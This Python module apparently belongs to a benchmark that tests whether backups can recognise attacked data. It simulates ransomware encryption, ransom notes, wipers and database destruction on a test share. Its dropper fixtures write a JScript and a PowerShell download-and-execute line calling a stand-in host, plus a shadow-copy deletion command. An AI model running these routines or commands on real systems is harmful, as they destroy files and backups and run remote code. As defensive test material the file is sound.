"""What attackers do: no row may be called clean, from its first step on."""

import base64
import hashlib
import os
import sqlite3
from contextlib import closing
from pathlib import Path

from bench.clean_series.ground import Act, Ground, Story, attack, keep_times
from bench.clean_series.honest import normal_day, program
from releve.apps.simulate.field import xor

NOTE = (
    "Tous vos fichiers ont été chiffrés.\nNe renommez pas les fichiers. Paiement en bitcoin,"
    " contact par Tor Browser : http://exemple.onion\n"
)


def encrypt(content: bytes, salt: str) -> bytes:
    """A real stream cipher: XOR with SHAKE-256 of a key and a salt."""
    stream = hashlib.shake_256(b"key of the series" + salt.encode("utf-8", "surrogateescape"))
    return xor(content, stream.digest(len(content)))


def _over(path: Path, content: bytes) -> None:
    handle = os.open(path, os.O_WRONLY)
    os.write(handle, content)
    os.close(handle)


def _all(ground: Ground) -> list[Path]:
    return [p for p in ground.files() if p.stat().st_size]


def in_place(ground: Ground) -> None:
    for path in _all(ground):
        _over(path, encrypt(path.read_bytes(), str(path)))


def times_kept(ground: Ground) -> None:
    for path in _all(ground):
        keep_times(path, lambda p: _over(p, encrypt(p.read_bytes(), str(p))))


def renamed(ground: Ground) -> None:
    for path in _all(ground):
        path.with_name(path.name + ".locked").write_bytes(encrypt(path.read_bytes(), str(path)))
        path.unlink()
    for folder in {p.parent for p in ground.files()}:
        (folder / "LISEZ-MOI.txt").write_text(NOTE, encoding="utf-8")


def made_up_names(ground: Ground) -> None:
    for path in _all(ground):
        name = hashlib.sha256(str(path).encode()).hexdigest()[:20]
        path.with_name(name).write_bytes(encrypt(path.read_bytes(), str(path)) + os.urandom(256))
        path.unlink()


def half(ground: Ground) -> None:
    """The first half of the share only: caught in the middle by the backup."""
    found = _all(ground)
    for path in found[: len(found) // 2]:
        path.rename(path.with_name(path.name + ".crypt"))
        made = path.with_name(path.name + ".crypt")
        _over(made, encrypt(made.read_bytes(), str(path)))


def every_second_page(ground: Ground) -> None:
    for path in _all(ground):
        content = bytearray(path.read_bytes())
        cipher = encrypt(bytes(content), str(path))
        for at in range(0, len(content), 8192):
            content[at : at + 4096] = cipher[at : at + 4096]
        _over(path, bytes(content))


def head_only(ground: Ground) -> None:
    for path in _all(ground):
        head = path.read_bytes()[:1024]
        _over(path, encrypt(head, str(path)))


def head_kept(ground: Ground) -> None:
    for path in _all(ground):
        content = path.read_bytes()
        if len(content) > 8192:
            _over(path, content[:4096] + encrypt(content[4096:], str(path)))


def five_percent(ground: Ground) -> None:
    for path in _all(ground):
        content = path.read_bytes()
        start, length = len(content) * 48 // 100, max(16, len(content) // 20)
        part = encrypt(content[start : start + length], str(path))
        _over(path, content[:start] + part + content[start + length :])


def one_a_day(ground: Ground) -> None:
    for path in ground.some(ground.files(".docx", ".pdf", ".txt"), 1):
        _over(path, encrypt(path.read_bytes(), str(path)))


def three_half(ground: Ground) -> None:
    """Three files, half of each: the slowest that is worth a ransom."""
    for path in ground.some(ground.files(".pdf", ".docx"), 3):
        content = path.read_bytes()
        _over(path, content[: len(content) // 2] + encrypt(content[len(content) // 2 :], str(path)))


def in_base64(ground: Ground) -> None:
    for path in _all(ground):
        path.write_bytes(base64.encodebytes(encrypt(path.read_bytes(), str(path))))


def only(*endings: str) -> Act:
    def act(ground: Ground) -> None:
        for path in ground.files(*endings):
            _over(path, encrypt(path.read_bytes(), str(path)))

    return act


def database_file(ground: Ground) -> None:
    _over(ground.database, encrypt(ground.database.read_bytes(), "db"))


def database_rows(ground: Ground) -> None:
    with closing(sqlite3.connect(ground.database)) as db:
        for (name,) in db.execute(
            "SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite%'"
        ).fetchall():
            db.execute(f'DELETE FROM "{name}" WHERE rowid % 2')
        db.commit()


def database_dropped(ground: Ground) -> None:
    with closing(sqlite3.connect(ground.database)) as db:
        names = db.execute(
            "SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite%'"
        )
        for (name,) in names.fetchall():
            db.execute(f'DROP TABLE "{name}"')
        db.commit()


def dropper_script(ground: Ground) -> None:
    (ground.anywhere() / "facture_2026.js").write_text(
        "var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
        "x.open('GET','http://exemple.invalid/a.exe',false); x.send();\n"
        "var f = new ActiveXObject('ADODB.Stream'); f.Type=1; f.Open(); f.Write(x.responseBody);\n"
        "f.SaveToFile('a.exe',2); s.Run('a.exe');\n",
        encoding="utf-8",
    )


def dropper_program(ground: Ground) -> None:
    """A program that clears the way: what it says of shadow copies is in its strings."""
    body = program(ground, 60_000) + b"cmd.exe /c vssadmin.exe delete shadows /all /quiet\0"
    (ground.anywhere() / "MiseAJour.exe").write_bytes(body)


def dropper_powershell(ground: Ground) -> None:
    (ground.anywhere() / "imprimante.ps1").write_text(
        "powershell -nop -w hidden -ep bypass\nIEX (New-Object Net.WebClient).DownloadString("
        "'http://exemple.invalid/p')\n",
        encoding="utf-8",
    )


def wipe_zeros(ground: Ground) -> None:
    for path in _all(ground):
        _over(path, bytes(path.stat().st_size))


def wipe_noise(ground: Ground) -> None:
    for path in _all(ground):
        _over(path, os.urandom(path.stat().st_size))


def wipe_cut(ground: Ground) -> None:
    for path in _all(ground):
        path.write_bytes(b"")


def wipe_deleted(ground: Ground) -> None:
    found = _all(ground)
    for path in found[: len(found) * 6 // 10]:
        path.unlink()


def witness_only(ground: Ground) -> None:
    """The backup ran when the encryptor had reached the witnesses and one letter."""
    for path in ground.share.rglob(".000-sommaire.docx"):
        _over(path, encrypt(path.read_bytes(), str(path)))
        return
    one_a_day(ground)


STORIES: tuple[Story, ...] = (
    attack("everything, in place", "complete encryption", in_place),
    attack("everything, times set back", "complete encryption", times_kept),
    attack("everything, renamed, notes", "complete encryption", renamed),
    attack("everything, made-up names", "complete encryption", made_up_names),
    attack("everything, as base64", "complete encryption", in_base64),
    attack("half of the share", "partial encryption", half),
    attack("every second page", "partial encryption", every_second_page),
    attack("first kilobyte only", "partial encryption", head_only),
    attack("heads kept", "partial encryption", head_kept),
    attack("5 % in the middle", "partial encryption", five_percent),
    attack("letters only", "partial encryption", only(".docx", ".odt")),
    attack("texts only", "partial encryption", only(".txt", ".csv")),
    attack("images only", "partial encryption", only(".dcm")),
    attack("photographs only", "partial encryption", only(".jpg", ".png")),
    attack("the database only", "partial encryption", database_file),
    attack("one file a day, three days", "slow encryption", one_a_day, one_a_day, one_a_day),
    attack("three half files, then honest work", "slow encryption", three_half, normal_day),
    attack("a script, then honest work", "dropper", dropper_script, normal_day),
    attack("a program", "dropper", dropper_program),
    attack("PowerShell", "dropper", dropper_powershell),
    attack("zeros", "wiper", wipe_zeros),
    attack("noise", "wiper", wipe_noise),
    attack("cut to nothing", "wiper", wipe_cut),
    attack("60 % deleted", "wiper", wipe_deleted),
    attack("half of all rows", "wiper", database_rows),
    attack("tables dropped", "wiper", database_dropped),
    attack("one letter before the backup", "slow encryption", witness_only),
)
